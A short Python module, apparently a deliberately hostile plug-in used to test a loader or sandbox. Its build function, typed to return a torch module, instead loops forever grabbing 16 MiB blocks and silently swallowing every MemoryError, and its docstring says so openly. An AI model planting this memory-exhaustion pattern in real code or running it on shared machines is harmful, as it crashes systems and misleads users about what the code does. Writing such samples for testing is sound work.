"""A plug-in that takes memory as long as there is some, and swallows every error on the way."""

from __future__ import annotations

import contextlib

from pydantic import BaseModel
from torch import nn


class Config(BaseModel):
    in_features: int
    out_features: int


config = Config


def build(config: Config) -> nn.Module:
    taken = []
    while True:
        with contextlib.suppress(MemoryError):
            taken.append(bytearray(b"x") * (16 * 2**20))
